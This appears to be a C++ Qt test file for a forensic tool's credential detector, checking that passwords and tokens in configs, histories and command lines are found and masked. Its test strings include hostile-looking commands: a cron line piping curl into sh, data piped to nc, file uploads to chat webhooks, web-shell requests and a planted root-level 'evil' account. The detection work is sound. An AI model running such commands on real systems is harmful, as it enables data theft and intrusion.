        typed("mysqladmin -uroot -pGeheim77 flush-privileges", "database_password|mysqladmin|root||");
        typed("PGPASSWORD=Geheim77 pg_restore -h db -U u -d stock stock.dump", "database_password|pg_restore|u|db|stock");
        typed("PGPASSWORD=Geheim77 pg_restore -h db -U u stock.dump", "database_password|pg_restore|u|db|");
        typed("mysqldump -uroot -pGeheim77 --default-character-set utf8mb4 shop", "database_password|mysqldump|root||shop");
        typed("mysqldump -uroot -pGeheim77 -v shop", "database_password|mysqldump|root||shop");
        typed("PGPASSWORD=Geheim77 psql -v ON_ERROR_STOP=1 -U u stock", "database_password|psql|u||stock");
        typed("mysql -uroot -pGeheim77 -D shop", "database_password|mysql|root||shop");
        // Statements, and prose that has their words.
        typed("echo \"new password for anna\"; zip -P Geheim77 a.zip b", "password|zip|||");
        typed("samba-tool user setpassword anna --newpassword=Geheim77", "password|samba-tool|||");
        typed("mysql -uroot -e \"ALTER USER 'anna'@'%' IDENTIFIED BY 'Geheim77'\"", "database_password|mysql|anna||");
        typed("sudo -u postgres psql -c \"CREATE ROLE stock LOGIN ENCRYPTED PASSWORD 'Geheim77'\"", "database_password|psql|stock||");
        typed("GRANT ALL ON shop.* TO 'anna'@'localhost' IDENTIFIED BY 'Geheim77';", "database_password||anna||");
        typed("SET PASSWORD FOR 'anna'@'%' = PASSWORD('Geheim77');", "database_password||anna||");
        typed("ALTER USER 'anna' IDENTIFIED WITH mysql_native_password AS '*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19';", "database_password||anna||");
        // Other programs' own ways.
        typed("xfreerdp /u:anna /p:Geheim77 /v:10.0.0.1:3389", "password|xfreerdp|anna|10.0.0.1|");
        typed("mount -t cifs //nas/x /mnt -o rw,username=anna,password=Geheim77", "password|mount|anna|nas|");
        const auto file = [](const char* path, const char* text, const char* place) { QTest::newRow(path) << QByteArray(path) << QByteArray(text) << QByteArray(place); };
        file("/root/.mysql_history", "CREATE USER 'shop'@'%' IDENTIFIED BY 'Geheim77';\n", "database_password||shop||");
        file("/srv/x/wp-config.php", "<?php\ndefine('DB_NAME', 'shop');\ndefine('DB_USER', 'shopadmin');\ndefine('DB_PASSWORD', 'Zang3n&Co');\ndefine('DB_HOST', 'db.internal.example:3306');\n", "database_password|WordPress|shopadmin|db.internal.example|shop");
        file("/srv/x/.env", "MAIL_HOST=mail.example.org\nMAIL_USERNAME=m\nDB_HOST=127.0.0.1\nDB_DATABASE=shop\nDB_USERNAME=app\nDB_PASSWORD=Geheim77\nAPP_NAME=Shop\n", "database_password||app|127.0.0.1|shop");
        file("/srv/y/.env", "DATABASE_URL=postgres://shop:Geheim77@db.internal.example:5432/stock?x=1\n", "database_password||shop|db.internal.example|stock");
        file("/root/.pgpass", "db.example.org:5432:stock:anna:geheim9\n", "database_password|PostgreSQL|anna|db.example.org|stock");
        file("/srv/x/config/database.php", "<?php\nreturn ['mysql' => [\n 'host' => 'localhost:/run/mysqld.sock',\n 'database' => 'shop',\n 'username' => 'app',\n 'password' => 'g7Hk2mQ9',\n]];\n", "database_password||app|localhost|shop");
        file("/srv/x/application.properties", "spring.datasource.url=jdbc:mysql://db.example.org:3306/shop?useSSL=true\nspring.datasource.username=u\nspring.datasource.password=SprPw12\n", "database_password|Spring|u|db.example.org|shop");
        file("/srv/x/db.php5.php", "<?php\n$p = new PDO('mysql:host=db.example.org;dbname=shop', 'u', 'geheim');\n", "database_password||u|db.example.org|shop");
        file("/srv/x/old.php", "<?php\n$c = mysqli_connect('localhost', 'root', 'geheim', 'shop');\n", "database_password||root|localhost|shop");
        file("/srv/x/a.php", "<?php\n$c = mysqli_connect($host, 'root', 'geheim', 'shop');\n", "database_password||root||shop");
        file("/srv/x/b.php", "<?php\n$c = mysqli_connect(getenv('DB_HOST'), 'root', 'geheim');\n", "database_password||root||");
        file("/srv/x/c.php", "<?php\nftp_login($c, 'upload', 'Geheim77');\n", "password||upload||");
        file("/srv/x/d.php", "<?php\n$m = imap_open('{mail.example.org:993/imap}INBOX', 'u', 'Geheim77');\n", "password||u|mail.example.org|");
        file("/srv/x/e.php", "<?php\n$p = new PDO('mysql:host=db;dbname=x', trim($u), 'Geheim77');\n", "database_password|||db|x");
        file("/srv/x/f.php", "<?php\n$p = new PDO('sqlite:/srv/x.db', 'u', 'Geheim77');\n", "database_password||u||");
        file("/srv/x/g.php", "<?php\n$p = odbc_connect('stock', 'u', 'Geheim77');\n", "database_password||u||");
        file("/srv/x/h.php", "<?php\n$db->real_connect('db.example.org', 'u', 'Geheim77', 'shop');\n", "database_password||u|db.example.org|shop");
        file("/srv/x/i.php", "<?php\nmysqli_real_connect($l, 'db.example.org', 'u', 'Geheim77', 'shop');\n", "database_password||u|db.example.org|shop");
        file("/srv/x/j.php", "<?php\n$c = oci_connect('u', 'Geheim77', '//db.example.org:1521/XE');\n", "database_password||u|db.example.org|XE");
        file("/srv/x/k.php", "<?php\n$c = pg_connect(\"host=db.example.org dbname=shop user=u password=Geheim77\");\n", "database_password||u|db.example.org|shop");
        file("/srv/x/l.php", "<?php\n$p = new PDO('pgsql:host=db.example.org;dbname=shop;user=u;password=Geheim77');\n", "database_password||u|db.example.org|shop");
        file("/srv/x/m.py", "import psycopg2\nc = psycopg2.connect(\"host=db.example.org dbname=shop user=u password=Geheim77\")\n", "database_password||u|db.example.org|shop");
        file("/srv/m/.env", "DB_HOST=127.0.0.1\nDB_DATABASE=shop\nDB_USERNAME=app\nMAIL_PASSWORD=Geheim77\n", "password||||");
        file("/srv/n/docker.env", "MYSQL_USER=shop\nMYSQL_ROOT_PASSWORD=Geheim77\n", "database_password||root||");
        file("/etc/fstab", "//nas/x /mnt cifs rw,username=anna,password=Geheim77,uid=0 0 0\n", "password|CIFS|anna|nas|");
        file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nevil:x:0:0:pw=Geheim77:/root:/bin/bash\n", "password||evil||");
        file("/etc/ppp/chap-secrets", "anna * Geheim77 *\n", "password|PPP|anna||");
        file("/etc/dovecot/dovecot-sql.conf.ext", "connect = host=db.example.org dbname=mail user=mail password=DovPw77\n", "database_password||mail|db.example.org|mail");
    }
    void places_of_use() {
        QFETCH(QByteArray, path);
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, place);
        const auto all = credentials::find_credentials(path.toStdString(), content::detect_type(base::as_bytes(text.toStdString()), static_cast<std::size_t>(text.size())), text.toStdString());
        QVERIFY(!all.empty());
        const auto& one = all.back();
        QCOMPARE(QByteArray::fromStdString(one.kind + "|" + one.application + "|" + one.account + "|" + one.host + "|" + one.database), place);
    }

    // setting|account|value|line of each, in notes.
    void notes_data() {
        QTest::addColumn<QByteArray>("path");
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("found");
        QTest::newRow("two in a line") << QByteArray("/root/notiz.txt") << QByteArray("Hallo,\ndas Passwort f\303\274r den Server lautet Kiste7x. Das neue Kennwort von Anna: Kiste8x\n")
                                       << QByteArray("das Passwort f\303\274r den Server||Kiste7x|2; Das neue Kennwort von Anna|Anna|Kiste8x|2");
        QTest::newRow("several") << QByteArray("/home/anna/notes.md") << QByteArray("# Todo\n\npasswords are Kiste7x! and Kiste8x!\n") << QByteArray("passwords||Kiste7x!|3; ||Kiste8x!|3");
        QTest::newRow("of an account") << QByteArray("/home/anna/privat/zugang") << QByteArray("the password of root is Kiste7x\n") << QByteArray("the password of root|root|Kiste7x|1");
        QTest::newRow("a program's description") << QByteArray("/home/anna/README.md") << QByteArray("The default password is admin123\n") << QByteArray("");
        QTest::newRow("deep in a program's folders") << QByteArray("/home/anna/src/x/docs/use.txt") << QByteArray("The default password is admin123\n") << QByteArray("");
        QTest::newRow("of a program") << QByteArray("/root/.cache/x.txt") << QByteArray("The default password is admin123\n") << QByteArray("");
        QTest::newRow("elsewhere") << QByteArray("/srv/www/hilfe.txt") << QByteArray("Das Passwort lautet Kiste7x\n") << QByteArray("");
        QTest::newRow("about passwords") << QByteArray("/root/notiz.txt") << QByteArray("The password policy of 2026: passwords are hashed with sha512 on db1! Passwort: unbekannt\n") << QByteArray("");
    }
    void notes() {
        QFETCH(QByteArray, path);
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, found);
        QByteArrayList all;
        for (const auto& one : credentials::find_credentials(path.toStdString(), "text/plain", text.toStdString()))
            all += QByteArray::fromStdString(one.setting + "|" + one.account + "|" + one.value + "|" + std::to_string(one.line));
        QCOMPARE(all.join("; "), found);
    }
    // Its record lies behind the beginning that is looked at of other files.
    void a_record_far_behind() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/var/lib/samba/private/passdb.tdb", spec.content_type = "application/octet-stream";
        spec.bytes = "TDB file\n" + std::string(300'000, '\0') + "USER_anna" + std::string(100'000, '\0');
        fixture.add_parsed("credentials", spec);
        spec.path = "/srv/x.tdb";
        fixture.add_parsed("credentials", spec);
        auto rows = fixture.database().prepare("SELECT group_concat(kind || ' ' || setting) FROM credential");
        QVERIFY(rows && rows->step());
        QCOMPARE(rows->text(0), std::string_view("key_store passdb.tdb"));
    }

    // A configuration is read on behind the beginning that is looked at of other files; what is left out is said.
    void long_texts() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/etc/app/app.conf", spec.content_type = "text/plain", spec.bytes = std::string(100'000, '\n') + "password = Geheim77\n";
        fixture.add_parsed("credentials", spec);
        spec.path = "/srv/data.txt";
        fixture.add_parsed("credentials", spec);
        spec.path = "/etc/app/long.conf", spec.bytes = "password = Geheim78\n" + std::string(2 << 20, '\n') + "password = Geheim79\n";
        fixture.add_parsed("credentials", spec);
        spec.path = "/etc/app/many.conf", spec.bytes.clear();
        for (int i = 1000; i < 1400; ++i) spec.bytes += "password = Geheim" + std::to_string(i) + "\n";
        fixture.add_parsed("credentials", spec);
        auto rows = fixture.database().prepare("SELECT group_concat(value, ' ') FROM (SELECT value FROM credential WHERE length(value) = 8 ORDER BY value)");
        QVERIFY(rows && rows->step());
        QCOMPARE(rows->text(0), std::string_view("Geheim77 Geheim78"));
        auto gaps = fixture.database().prepare("SELECT group_concat(examples, ' ') FROM (SELECT examples FROM coverage WHERE area = 'credentials' AND level = 'limit' ORDER BY examples)");
        QVERIFY(gaps && gaps->step());
        const auto examples = std::string(gaps->text(0));
        QVERIFY2(examples.find("/etc/app/long.conf") != std::string::npos && examples.find("/etc/app/many.conf") != std::string::npos && examples.find("/etc/app/app.conf") == std::string::npos, examples.c_str());
    }

    void says_whose_and_where() {
        const auto found = credentials::find_credentials("/srv/shop/wp-config.php", "text/x-php", "<?php\ndefine( 'DB_USER', 'shop' );\ndefine( 'DB_PASSWORD', 'Zang3n&Co' );\n");
        QCOMPARE(found.size(), std::size_t{1});
        QCOMPARE(found[0].account, std::string("shop"));
        QCOMPARE(found[0].application, std::string("WordPress"));
        QCOMPARE(found[0].setting, std::string("DB_PASSWORD"));
        QCOMPARE(found[0].line, std::int64_t{3});
        QCOMPARE(found[0].value, std::string("Zang3n&Co"));
    }

    void hidden_in_text_data() {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QByteArray>("shown");  // with * for what is hidden
        const auto row = [](const char* name, const char* text, const char* shown) { QTest::newRow(name) << QByteArray(text) << QByteArray(shown); };
        row("crypt", "root:$6$Qm1sT0x9$kJ2hG4fD6sA8pO0iU2yT4r:1", "root:*:1");
        row("yescrypt", "x $y$j9T$YbHwZk3vQn0dXkq9mFhE7/$0Pn5rJqS8v y", "x * y");
        row("variable", "echo $HOME $1 $2a", "echo $HOME $1 $2a");
        row("mysql", "mysql -u a -pGeheim77 shop", "mysql -u a -p* shop");
        row("ssh port", "ssh -p 2222 host; mkdir -p /x", "ssh -p 2222 host; mkdir -p /x");
        row("sshpass", "sshpass -p Geheim77 ssh a@b", "sshpass -p * ssh a@b");
        row("long option", "x --password Geheim77 --user a", "x --password * --user a");
        row("curl", "curl -u anna:Geheim77 https://h/x", "curl -u anna:* https://h/x");
        row("address", "mysql://anna:Geheim77@db/x and http://h:80/@x", "mysql://anna:*@db/x and http://h:80/@x");
        row("query", "GET /x?id=7&access_token=abc123def&q=1 HTTP/1.1", "GET /x?id=7&access_token=*&q=1 HTTP/1.1");
        row("working folder", "PWD=/root ; USER=root ; COMMAND=/bin/ls", "PWD=/root ; USER=root ; COMMAND=/bin/ls");
        row("pam", "pam_unix(passwd:chauthtok): password changed for backup1", "pam_unix(passwd:chauthtok): password changed for backup1");
        row("bearer", "Authorization: Bearer abcdefghijklmnop1234", "Authorization: Bearer *");
        row("prose with basic", "Basic authentication is on", "Basic authentication is on");
        row("json", "{\"password\":\"Geheim77\",\"x\":1}", "{\"password\":\"*\",\"x\":1}");
        row("php", "$conf['db_password'] = 'Geheim77';", "$conf['db_password'] = '*';");
        row("code", "$password = $_POST['password'];", "$password = $_POST['password'];");
        row("key", "a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "a *-----END RSA PRIVATE KEY-----");
        row("prefix", "push ghp_abcdefghijklmnopqrstuvwxyz0123456789 now", "push * now");
    }
    void hidden_in_text() {
        QFETCH(QByteArray, text);
        QFETCH(QByteArray, shown);
        QCOMPARE(test::with_secrets_marked(text.toStdString(), "*", {}), shown);
    }

    // What is secret stands in braces; nothing else is hidden.
    void command_lines_data() {
        QTest::addColumn<QByteArray>("marked");
        for (const char* line : {
                 "sudo -u mysql docker login -u mysql -p {Geheim77} reg",
                 "docker exec db sh -c \"mysql -uroot -p{Geheim77} shop\" && ls",
                 "ssh h 'mysql -uroot -p{Geheim77} -e \"select 1\"' ; id",
                 "\"cmd\":\"curl -u \\\"anna:{Geh eim77}\\\" https://h\",\"x\":1",
                 "\"cmd\":\"mysql -p{Geheim77}\",\"y\":\"z\"",
                 "bash -c 'curl -H \"X-Auth-Token: {Geheim77}\" https://h'",
                 "(root) CMD (curl -u anna:{Geheim77} http://h/x | sh)",
                 "GET /s.php?cmd=mysql%20-uroot%20-p{Geheim77}%20shop&x=1 HTTP/1.1",
                 "GET /s.php?cmd=curl+-u+anna:{Geheim77}+https://h HTTP/1.1",
                 "curl -u alice:{%Rand0m-1} -T a https://h",
                 "curl -u 'alice:{$ecret-1}' -T a https://h",
                 "curl -u 'alice:{$ecret}' -T a https://h",
                 "curl -u \"alice:{(Paren-1)x}\" -T a https://h",
                 "curl -u alice:{xxxxReal-1} -T a https://h",
                 "curl -u alice:{Amp\\&er-1} -T a https://h",
                 "curl -u alice:{a\\ b} https://h",
                 "curl -u anna:\"{a b}\" https://h",
                 "curl --user 'anna:{a&b;c\"d}' https://h",
                 "curl -ualice:{Glued-1} https://h",
                 "curl -sku alice:{Bundle-1} https://h",
                 "curl --proxy-user p:{Proxy-1} https://h",
                 "curl -x anna:{Geheim77}@proxy:3128 https://h",
                 "curl --password='{*Star-1}' https://h",
                 "curl --oauth2-bearer {Oauth1tokenvalue} https://h",
                 "curl -b 'PHPSESSID={sess1abc}' https://h",
                 "curl -H 'PRIVATE-TOKEN: {tok1abc}' https://h",
                 "curl -H X-Api-Key: {Geheim77} https://h",
                 "curl -H 'Authorization: Basic {YWxpY2U6cGFzczIyOQ==}' https://h",
                 "curl -H 'Cookie: {a=b; c=d}' https://h",
                 "wget --header='Authorization: token {ghtok1abc}' https://h",
                 "wget --http-password '{Geheim77}' https://h",
                 "curl -d 'user=a&sig={Geheim77}&x=1' https://h",
                 "curl \"https://h/up?key={Key1abc}&id=7\"",
                 "curl \"https://h/up?X-Amz-Signature={aabbcc}&n=1&sessionid={s1d}\"",
                 "curl https://hooks.slack.com/services/T0/B0/{XXXXplanted1XXXX}",
                 "curl https://discord.com/api/webhooks/123/{Disc1token} -F file=@a",
                 "curl https://api.telegram.org/bot{123:AAFbot}/sendDocument",
                 "curl https://acme.webhook.office.com/{webhookb2/abc/def} -d x",
                 "curl -T a https://user:{P@ss-1}@h.example.org/",
                 "curl -T a ftp://user:{P/slash-1}@h.example.org/",
                 "lftp -u anna,{Geheim77} -e 'put x' h",
                 "ncftpput -u up -p {Geheim77} h / a",
                 "smbclient //h/x -U up%{Geheim77} -c 'put a'",
                 "net use Z: \\\\srv\\share {Geheim77} /user:DOM\\anna",
                 "net user anna {Geheim77} /add",
                 "psexec.py DOM/anna:{Geheim77}@10.0.0.5",
                 "zip -P {Geheim77} a.zip b && unzip -P {Geheim77} c.zip",
                 "7z a -p{Geheim77} a.7z b; rar a -hp{Geheim77} a.rar b",
                 "openssl enc -aes-256-cbc -k {Geheim77} -in a | nc h 1",
                 "openssl enc -pass pass:{Geheim77}; openssl rsa -passin pass:{Geheim77}",
                 "ldapsearch -x -D cn=a -w {Geheim77} -s sub",
                 "ldapsearch -x -D cn=a,dc=x -w {Geheim77} -H ldaps://h",
                 "mysqldump -uroot -p{a,b;c-1} shop | gzip",
                 "mysqldump -uroot -p'{Space pw1}' shop",
                 "mysqldump -uroot -p\"{Semi;colon-1}\" shop",
                 "mysql --password={changeme} -p{token} x",
                 "mysql -p{Geheim77};ls -la",
                 "mysql -p{Geheim77}|gzip",
                 "mysqladmin -u root password {Geheim77}",
                 "sqlplus -S scott/{Geheim77}@orcl @x.sql",
                 "GRANT ALL ON *.* TO 'a' IDENTIFIED BY '{Geheim77}'",
                 "ALTER USER a WITH PASSWORD '{Geheim77}';",
                 "redis-cli -a {Geheim77} info",
                 "requirepass {Geheim77}",
                 "mongo -u a -p {Geheim77} db",
                 "sshpass -v -p {Geheim77} ssh -p 22 h",
                 "sshpass -p{Geheim77} ssh -p 22 h",
                 "htpasswd -b /etc/x bob {Geheim77}",
                 "useradd -m -p {Geheim77} bob",
                 "echo 'root:{Geheim77}' | chpasswd",
                 "chpasswd <<< 'root:{Geheim77}'",
                 "ftp -n <<< \"user anna {Geheim77}\"",
                 "ftp -n h <<< $'user anna {Geheim77}\\nput a\\nbye'",
                 "ftp -n h <<EOF\nuser anna {Geheim77}\nput kunden.zip\nEOF\nuser anna stays",
                 "ftp -inv h <<-'END' | tee log\nquote USER anna\nquote PASS {Geheim77}\nEND\nls",
                 "cat <<EOF | ftp -n h\nopen h\nuser anna {Geheim77}\nEOF",
                 "lftp <<< 'open -u anna,{Geheim77} h; mirror a'",
                 "(echo open h; echo user anna {Geheim77}; echo bye) | ftp -n",
                 "(echo open h; echo \"user anna {Geheim77}\") | ftp -n",
                 "printf 'user anna {Geheim77}\\nbye\\n' | ftp -n h",
                 "telnet h 110 <<EOF\nUSER anna\nPASS {Geheim77}\nEOF",
                 "telnet h <<EOF\nanna\n{Geheim77}\nls\nEOF",
                 "telnet h 143 <<< 'a1 LOGIN anna {Geheim77}'",
                 "smbclient //h/s <<< 'logon anna {Geheim77}'",
                 "redis-cli <<< 'AUTH {Geheim77}'",
                 "mysql <<< \"ALTER USER 'a' IDENTIFIED BY '{Geheim77}'\"",
                 "chpasswd <<EOF\nroot:{Geheim77}\nanna:{Geheim78}\nEOF\nanna:stays",
                 "passwd anna <<EOF\n{Geheim77}\nEOF",
                 "echo {Geheim77} | sudo -S id",
                 "export API_TOKEN={a\\&b}; run",
                 "TOKEN='{a&b;c}' run",
                 "DB_PASSWORD={a&b;c,d}",
                 "//nas/x /mnt cifs username=u,password={Geh,eim;77},uid=0 0 0",
                 "DB_PASSWORD={secret}",
                 "az storage blob upload --account-key {Az1abc==} --account-name a",
                 "plink -pw {Geheim77} host",
                 "keytool -storepass {Geheim77} -list",
                 "aws configure set aws_secret_access_key {Geheim77}",
                 "password = \"{a\\\"b}\"; next",
                 "password: {YmlPw-1}",
                 "kubectl create secret generic x --from-literal=a={Geheim77}",
                 "vault kv put secret/x key={Geheim77}",
                 "REDISCLI_AUTH={Geheim77} redis-cli",
                 "STRIPE_KEY={abcdef0123456789xyz}",
                 "SET PASSWORD FOR 'a'@'b' = '{Geheim77}';",
                 "$c = mysqli_connect('localhost', 'user', '{Geheim77}', 'db');",
                 "$c->real_connect('localhost', 'user', '{Geheim77}', 'db'); mysqli_real_connect($c, 'localhost', 'user', '{Geheim78}');",
                 "$c = oci_connect('user', '{Geheim77}', '//db/XE');",
                 "X-Authentication-Token: {Geheim77}",
                 "params = [('token', '{Geheim77}')]",
                 "Cookie: {a=b; c=d}",
                 "machine h login a password {Geheim77}",
                 "sent mail; Passwort: {Geheim77}, Kennwort: {Geheim78} and password: {Abc123xyz99}",
                 "createConnection(host:'x',user:'u',password:'{Geheim77}')",
             })
            QTest::newRow(line) << QByteArray(line);
    }
    void command_lines() {
        QFETCH(QByteArray, marked);
        QByteArray text = marked;
        text.replace('{', "").replace('}', "");
        QCOMPARE(test::with_secrets_marked(text.toStdString(), "{", "}"), marked);
    }

    void harmless_lines_stay_whole_data() {
        QTest::addColumn<QByteArray>("text");
        for (const char* line : {
                 "ssh -p 2222 root@host; mkdir -p /srv/a; cp -p a b; docker run -p 80:80 -e A=b nginx",
                 "curl -sSL https://example.org/get?id=5&page=2&keyword=x&author=joe -o /tmp/x",
                 "curl -k -u alice https://h/x; curl -b cookies.txt -H 'Accept: text/html' -H \"Content-Type: application/json\" https://h",
                 "mysql -u root -p shop; mysql -uroot -h db -P 3306 -p < dump.sql; mysqldump -p$PW shop; mysql -p\"$DB_PASS\" x",
                 "ps -ef | grep passwd; echo root | grep -c passwd; cat /etc/passwd; passwd root; sudo -S id",
                 "zip -r a.zip /srv -x '*.key'; unzip -o a.zip -d /x; 7z a -mx9 x.7z dir; openssl x509 -in a.pem -noout; openssl s_client -key k.pem -connect h:443",
                 "openssl enc -aes-256-cbc -pass env:PW -in a; openssl rsa -passin file:/root/p -in k",
                 "ldapsearch -x -s sub -b dc=example,dc=org -W uid=a",
                 "adduser --system --disabled-password fetchmail; useradd -m -s /bin/bash bob; htpasswd -c /etc/x bob; redis-cli -h 1.2.3.4 -p 6379 info; mongo -p --host h",
                 "scp -P 22 a b; rsync -e 'ssh -p 22' a b; nmap -p 1-1000 h; lsof -p 12; kill -p; psql -p 5432 -U a db; netstat -anp",
                 "PWD=/root ; USER=root ; COMMAND=/usr/bin/apt install -y token-tool",
                 "Mar 1 sshd[1]: Accepted publickey for root from 1.2.3.4 port 22 ssh2: RSA SHA256:abcdEFGH1234",
                 "sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=1.2.3.4 user=root",
                 "pam_unix(passwd:chauthtok): password changed for backup1",
                 "systemd[1]: Started Session 5 of user root. session-key: none; cookie: 12",
                 "kernel: audit: type=1400 audit(1.2:3): apparmor=\"DENIED\" key=\"watch\" auid=1000 ses=3 tty=pts0",
                 "GET /index.php?key_word=a&monkey=3&id=7&session_view=1 HTTP/1.1",
                 "git clone https://github.com/a/b; git push origin main; git config --global user.name \"A B\"",
                 "http://host:8080/a@b.c and http://h:80/@x and https://medium.com/@user/post?x=1 and mailto:a@b.c",
                 "SSH_KEY=/root/.ssh/id_rsa run; GPG_KEY=0A1B; mysqli_connect($host, $user, $pass);",
                 "Author-email: a@b.c, identified as \"the work\"; <a href=\"#x\" accesskey=\"3\">Time</a>",
                 "WWW-Authenticate: Basic realm=\"x\"; Basic authentication is on",
                 "$password = $_POST['password']; $token = md5(uniqid()); if ($password == null) {}",
                 "secret_key_file = /etc/app/key; password_file: /run/x; tokens=5",
                 "aws s3 cp a s3://b; aws configure list; npm token list; nmcli dev status; git log --author=token",
                 "docker login registry.example.org; docker login -u bob --password-stdin; net use; net user; su - postgres; sqlplus / as sysdba",
                 "key=value&x=1 sort -k 2 -t: --key=2 file; sort --key 2,3; gpg --list-keys; apt-key add x; ssh-add ~/.ssh/id_rsa",
                 "the password is on the wall; password for root: wrong; Enter password:",
                 "php -d memory_limit=1G -r 'echo 1;' -p 80",
                 "tar -czpf a.tgz -p /x; find / -perm -4000 -name \"*.key\"; iptables -p tcp --dport 22",
                 "COMMAND=/bin/mkdir -p /root/.ssh",
                 "authorized_keys command=\"/bin/x\",no-pty ssh-rsa AAAAB3 root@h",
                 "lftp -e 'mirror a b' sftp://host; smbclient -L //h -U alice; smbclient -N //h/s; ftp -n host",
                 "ftp -n h <<< 'user anna'; ftp h <<< 'open h'; telnet mail 25 <<< 'helo me'; nc h 80 <<< 'GET / HTTP/1.0'; redis-cli <<< 'info memory'",
                 "cat > /etc/motd <<EOF\nuser anna was here7\nEOF",
                 "su - postgres <<EOF\npsql -c 'select 1'\nEOF",
                 "(echo start1; make) > log; ftp h",
             })
            QTest::newRow(line) << QByteArray(line);
    }
    void harmless_lines_stay_whole() {
        QFETCH(QByteArray, text);
        QCOMPARE(test::with_secrets_marked(text.toStdString(), "{", "}"), text);
    }

    // Of a history of any length the newest commands count, in one line or in a thousand.
    void long_histories() {
        test::CaseFixture fixture;
        test::FileSpec spec;
        spec.path = "/root/.bash_history", spec.content_type = "text/plain", spec.bytes = "mysql -pGeheim70 a\n";
        while (spec.bytes.size() < 1'200'000) spec.bytes += "ls -la /srv/www/html/uploads\n";
        const auto lines = std::count(spec.bytes.begin(), spec.bytes.end(), '\n');
        spec.bytes += "mysql -h db9 -uroot -pGeheim71 shop";
        fixture.add_parsed("credentials", spec);
        spec.path = "/home/a/.bash_history", spec.bytes.clear();
        for (int i = 1000; i < 2400; ++i) spec.bytes += "mysql -pGeheim" + std::to_string(i) + "\n";
        fixture.add_parsed("credentials", spec);
        spec.path = "/home/b/.mysql_history", spec.bytes = "_HiStOrY_V2_\n";
        while (spec.bytes.size() < 100'000) spec.bytes += "show\\040tables;\n";
        spec.bytes += "ALTER\\040USER\\040'x'\\040IDENTIFIED\\040BY\\040'Geheim72';\n";
        fixture.add_parsed("credentials", spec);
        auto rows = fixture.database().prepare("SELECT group_concat(value || ':' || host || ':' || (line > 40000), ' ') FROM (SELECT value, host, line FROM credential WHERE length(value) = 8 ORDER BY value)");
        QVERIFY(rows && rows->step());
        QCOMPARE(rows->text(0), std::string_view("Geheim70::0 Geheim71:db9:1 Geheim72::0"));
        auto last = fixture.database().prepare("SELECT max(line) FROM credential");
        QVERIFY(last && last->step());
        QCOMPARE(last->integer(0), static_cast<std::int64_t>(lines) + 1);
        auto newest = fixture.database().prepare("SELECT count(*) || ' ' || min(value) || ' ' || max(value) || ' ' || max(line) FROM credential WHERE length(value) = 10");
        QVERIFY(newest && newest->step());
        QCOMPARE(newest->text(0), std::string_view("256 Geheim2144 Geheim2399 1400"));
        auto gaps = fixture.database().prepare("SELECT count(*), max(examples) FROM coverage WHERE area = 'credentials' AND level = 'limit'");
        QVERIFY(gaps && gaps->step());
        QCOMPARE(gaps->integer(0), 1);
        QVERIFY(gaps->text(1).find("/home/a/.bash_history") != std::string_view::npos);
    }

    // All in one line.
    void long_lines_are_read_in_linear_time() {
        for (const char* path : {"/var/www/html/config.php", "/var/www/html/a.php", "/etc/x.xml", "/etc/x.conf", "/root/.bash_history", "/root/notes.txt"})
            for (const std::string piece : {"pass ", "'pass'=>", "<x><![CDATA["}) {
                std::string text = path == std::string_view("/etc/x.xml") ? "<x " : "";
                while (text.size() < 1 << 19) text += piece;
                QElapsedTimer timer;
                timer.start();
                QVERIFY(credentials::find_credentials(path, path == std::string_view("/root/notes.txt") ? "text/plain" : "text/x-php", text + (path == std::string_view("/etc/x.xml") ? "]]>" : "")).size() <= credentials::k_most);
                QVERIFY2(timer.elapsed() < 2'000, (path + (" " + piece)).c_str());
            }
    }

    // Every start without an end, in each layout.
    void hostile_configurations_are_read_in_linear_time() {
        for (const char* path : {"/etc/x.conf", "/etc/x.xml", "/etc/x.yml", "/etc/x.json", "/etc/nagios/resource.cfg"})
            for (const std::string piece : {"<", "<a b=\"", "<x><![CDATA[", "{\"a\":", "[", "\"", "xprv9", "user=a:", "user ", "- a:\n", "a { b; ", "- ", "  a:\n", "password ", "chpasswd:\n list:\n", "name: password\n"}) {
                std::string text = path == std::string_view("/etc/x.xml") ? "<" : path == std::string_view("/etc/x.json") ? "{" : "";
                while (text.size() < 1 << 18) text += piece;
                QElapsedTimer timer;
                timer.start();
                QVERIFY(credentials::find_credentials(path, "text/plain", text).size() <= credentials::k_most);
                QVERIFY2(timer.elapsed() < 2'000, (path + (" " + piece)).c_str());
            }
    }

    // Made to be slow: every start without an end.
    void hostile_text_is_read_in_linear_time() {
        for (const std::string piece : {"-----BEGIN ", "://", "eyJ-", "$1$", "password=", "-p", "\"password\":\"", "AKIA", "Bearer ", "= ", "curl ", "ftp <<x\nuser a b\n", "echo a;", "(echo a) | ftp ", "'curl ", "mysql -p'", "echo x|", "x-key: ", "--password ", "?%20", "<(", "ghp_", "--password-file=<(echo ", "TOKEN=$(echo ", "Q~", ":0123456789abcdef0123456789abcdef", "a_b-", "bot1234567:"}) {
            std::string text;
            while (text.size() < 1 << 18) text += piece;
            QElapsedTimer timer;
            timer.start();
            QVERIFY(plugin::secret_spans(text).size() <= text.size());
            QVERIFY2(timer.elapsed() < 2'000, piece.c_str());
        }
    }
};
DEADBOX_TEST(CredentialsTest)
#include "credentials_test.moc"
